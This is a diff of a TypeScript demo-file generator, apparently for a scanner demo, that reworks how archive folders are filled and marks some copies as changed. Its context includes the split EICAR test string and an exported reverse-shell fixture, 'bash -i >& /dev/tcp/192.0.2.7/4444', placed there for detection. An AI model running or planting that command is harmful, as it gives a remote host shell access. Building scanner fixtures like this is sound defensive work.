@@ -1,5 +1,5 @@
 // The files of the demo: copies of real ones in bounded folders, and a few that a scanner finds or cannot open.
-import { copyFile, mkdir, readdir, rm, stat, writeFile } from 'node:fs/promises';
+import { appendFile, copyFile, mkdir, readdir, rm, stat, writeFile } from 'node:fs/promises';
 import { basename, join } from 'node:path';
 import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
 
@@ -9,10 +9,11 @@ const maxFilesAPackage = 200;
 const maxFileBytes = 1024 * 1024;
 const projectFiles = 900;
 const lettersAtOnce = 3;
-const archiveFiles = 260;
 /** The demo stays small however long it runs. */
 const keptLetters = 300;
 const keptArchives = 4;
+/** One in so many is as it was: its content is known already when it comes again. */
+const unchangedEvery = 3;
 
 /** In pieces, so that this file is none of them. */
 const testFile = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
@@ -20,7 +21,6 @@ export const reverseShell = ['#!/bin/sh\nbash -i >& /dev', '/tcp/192.0.2.7/4444 
 
 export interface DemoSizes {
   readonly projectFiles: number;
-  readonly archiveFiles: number;
   readonly keptLetters: number;
 }
 
@@ -35,7 +35,7 @@ export class DemoFiles {
   /** @param sizes smaller ones for tests. */
   static async in(home: string, sizes: Partial<DemoSizes> = {}): Promise<DemoFiles> {
     const sources = (await Promise.all(packages.map(filesOf))).flat();
-    return new DemoFiles(home, sources, { projectFiles, archiveFiles, keptLetters, ...sizes });
+    return new DemoFiles(home, sources, { projectFiles, keptLetters, ...sizes });
   }
 
   private constructor(home: string, sources: readonly string[], sizes: DemoSizes) {
@@ -65,12 +65,16 @@ export class DemoFiles {
     await Promise.all(old.map((letter) => rm(letter, { force: true })));
   }
 
-  /** Many files at once, as when an archive is unpacked. */
-  async archive(): Promise<void> {
+  /** A folder for what is unpacked or fetched; the oldest of its kind goes. */
+  async newArchive(): Promise<string> {
     this.#archives += 1;
     const folder = join(this.#home, 'Documents', 'unpacked');
-    await this.#copy(join(folder, `archive-${this.#archives}`), this.#sizes.archiveFiles);
     await rm(join(folder, `archive-${this.#archives - keptArchives}`), { recursive: true, force: true });
+    return join(folder, `archive-${this.#archives}`);
+  }
+
+  async unpack(archive: string, count: number): Promise<void> {
+    await this.#copy(archive, count, true);
   }
 
   async #download(name: string, content: string | Uint8Array): Promise<void> {
@@ -79,7 +83,8 @@ export class DemoFiles {
     await writeFile(join(folder, name), content);
   }
 
-  async #copy(folder: string, count: number): Promise<readonly string[]> {
+  /** @param isLater most of them were changed since they were last seen. */
+  async #copy(folder: string, count: number, isLater = false): Promise<readonly string[]> {
     await mkdir(folder, { recursive: true });
     const copies: string[] = [];
     for (let index = 0; index < count; index += 1) {
@@ -88,6 +93,7 @@ export class DemoFiles {
       this.#copied += 1;
       const copy = join(folder, `${this.#copied}-${basename(source)}`);
       await copyFile(source, copy);
+      if (isLater && this.#copied % unchangedEvery !== 0) await appendFile(copy, `\n// ${this.#copied}\n`);
       copies.push(copy);
     }
     return copies;
